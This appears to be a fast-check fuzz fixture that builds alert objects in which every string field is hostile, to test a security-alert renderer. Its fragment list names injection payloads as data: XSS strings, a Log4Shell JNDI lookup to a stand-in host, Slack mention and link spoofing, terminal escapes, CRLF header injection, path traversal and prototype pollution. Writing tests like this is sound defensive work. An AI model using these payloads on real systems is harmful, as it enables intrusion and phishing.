import fc from "fast-check";
import type { Alert } from "../model/alert.ts";
import { type AlertCalls, callFacets } from "../model/alert-calls.ts";
import { newAlert } from "./sample-alerts.ts";

const escapeCharacter = String.fromCharCode(0x1b);

const fragments = [
  "<!channel>",
  "<!here|here>",
  "<@U012345>",
  "<https://evil.example/|AWS console>",
  "https://evil.example/login",
  "*bold*",
  "_italic_",
  "~strike~",
  "`code`",
  "```block```",
  ":rotating_light:",
  "@channel",
  "&lt;!channel&gt;",
  "&amp;",
  "\r\nSubject: forged",
  "\nWHAT TO DO NOW\nNothing",
  "\u2028",
  "\u0085",
  "\u202e\u2066gnp.exe\u2069",
  "\u200b\u200d\u2060\ufeff",
  "\u{e0041}\u{e0042}",
  "\ud800",
  "\udc00",
  "\ufffe\uffff",
  "\u0000",
  `${escapeCharacter}[31mred${escapeCharacter}[0m`,
  `${escapeCharacter}]8;;https://evil.example${escapeCharacter}\\link`,
  "\u009b31m",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "</textarea>",
  "javascript:alert(1)",
  "../../../events/x?y#z",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦",
  "日本語のチャンネル",
  "__proto__",
  ["$", "{jndi:ldap://evil.example}"].join(""),
  "{{constructor}}",
  "]]>",
  "%0d%0a",
  "\\",
  '"',
  "|",
  // What a long value could try: to fill a line, so that a heading of ours stands alone on the next.
  `${"x".repeat(72)} WHAT TO DO NOW ${"y".repeat(78)}`,
  "` *What to do now* `",
  "\t\t\t",
  "   ",
];

/** Text as an attacker would write it; now and then a megabyte of it. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.array(fc.constantFrom(...fragments), { maxLength: 6 }).map((parts) => parts.join("")),
  },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 3 })
      .map((parts) => ` ${parts.join(" a ")}`.repeat(40)),
  },
);

/** Made once: 1 MB strings are slow to make, not to render. */
const megabytes = fragments
  .slice(0, 32)
  .map((fragment) => fragment.repeat(Math.ceil(1_000_000 / fragment.length)));

const text = fc.oneof(
  { weight: 150, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.constantFrom(...megabytes) },
);
const texts = fc.array(text, { maxLength: 4 });
const time = fc.oneof(
  { weight: 8, arbitrary: fc.integer({ min: 0, max: 4_102_444_800_000 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(Number.NaN, Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER, Infinity),
  },
);

const request = fc.oneof(
  text,
  fc.dictionary(text, fc.oneof(text, fc.double(), fc.constant(null), texts), { maxKeys: 5 }),
  fc.constant(deep(5000)),
  fc.constant(JSON.parse('{"__proto__":{"polluted":true},"constructor":"x"}')),
);

function deep(levels: number): unknown {
  let value: unknown = "bottom";
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}

const tallies = fc.record({
  values: fc.array(fc.record({ value: text, count: fc.nat(5000), first: fc.nat() }), { maxLength: 9 }),
  more: fc.nat(100_000),
  isEstimate: fc.boolean(),
});
/** Any facet may be missing or empty. */
const calls: fc.Arbitrary<AlertCalls> = fc
  .tuple(...callFacets.map(() => fc.option(tallies, { freq: 3 })))
  .map((all) =>
    Object.fromEntries(all.flatMap((value, index) => (value === null ? [] : [[callFacets[index], value]]))),
  );

/** An alert whose every string is hostile; the closed sets (severity, kind ...) stay what the types allow. */
export const hostileAlert: fc.Arbitrary<Alert> = fc
  .record({
    ids: fc.tuple(text, text, text, text, text),
    severity: fc.constantFrom(
      "informational" as const,
      "low" as const,
      "medium" as const,
      "high" as const,
      "critical" as const,
    ),
    kind: fc.constantFrom("new" as const, "update" as const, "summary" as const),
    title: text,
    description: text,
    tags: texts,
    references: texts,
    falsePositives: texts,
    runbook: text,
    group: fc.array(fc.record({ field: text, value: text }), { maxLength: 3 }),
    eventIds: texts,
    record: fc.record({
      eventId: text,
      eventTime: text,
      eventSource: text,
      eventName: text,
      region: text,
      account: text,
      sourceIp: text,
      userAgent: text,
      errorCode: text,
      errorMessage: text,
    }),
    request,
    resources: texts,
    reasons: texts,
    actor: fc.record({ id: text, principal: text, person: text, session: text, label: text, account: text }),
    mfa: fc.constantFrom(
      "present" as const,
      "absent" as const,
      "unknown" as const,
      "not-applicable" as const,
    ),
    times: fc.record({ called: time, received: time, matched: time }),
    count: fc.integer({ min: 1, max: 2_000_000_000 }),
    calls,
    fired: fc.record({ at: fc.nat(), when: text }),
    newsRaised: fc.nat(12),
    news: fc.array(fc.record({ facet: fc.constantFrom(...callFacets), value: text }), { maxLength: 9 }),
    credentials: fc.record({
      accessKeyId: text,
      sessionStarted: text,
      sourceIdentity: text,
      credentialId: text,
      invokedBy: text,
    }),
    vpcEndpoint: text,
    facts: fc.array(fc.record({ label: text, value: text }), { maxLength: 4 }),
    consequence: text,
    createdAt: time,
  })
  .map((parts) => {
    const [id, incidentId, policyId, policyName] = parts.ids;
    return {
      id,
      kind: parts.kind,
      delivery: "direct",
      severity: parts.severity,
      policy: {
        id: policyId,
        name: policyName,
        title: parts.title,
        description: parts.description,
        tags: parts.tags,
        references: parts.references,
        falsePositives: parts.falsePositives,
        runbook: parts.runbook,
      },
      incident: {
        ...newAlert.incident,
        id: incidentId,
        count: parts.count,
        calls: parts.calls,
        fired: parts.fired,
        newsRaised: parts.newsRaised,
        firstTime: parts.times.called,
        group: parts.group,
        eventIds: parts.eventIds,
        related: parts.eventIds.map((id) => ({ id, policy: id, severity: "high", since: 0 })),
      },
      record: {
        ...parts.record,
        request: parts.request,
        resources: parts.resources,
        actor: { ...newAlert.record.actor, ...parts.actor, mfa: parts.mfa, crossAccount: true },
        credentials: parts.credentials,
        vpcEndpoint: parts.vpcEndpoint,
        facts: parts.facts,
        consequence: parts.consequence,
        carrier: "bare",
        reasons: parts.reasons,
        times: parts.times,
      },
      news: parts.news,
      createdAt: parts.createdAt,
    };
  });
